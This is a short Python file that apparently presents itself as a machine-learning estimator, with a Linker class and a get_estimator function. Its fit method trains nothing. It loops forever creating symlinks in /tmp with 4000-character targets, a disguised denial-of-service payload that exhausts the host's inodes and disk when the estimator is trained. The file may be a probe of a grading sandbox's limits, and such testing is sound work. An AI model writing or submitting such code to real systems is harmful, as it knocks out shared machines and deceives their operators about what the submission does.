import os


class Linker:
    def fit(self, X, y):
        """A link's target is kept by the kernel, too."""
        number = 0
        while True:
            os.symlink('x' * 4000, f'/tmp/{number}')
            number += 1


def get_estimator():
    return Linker()
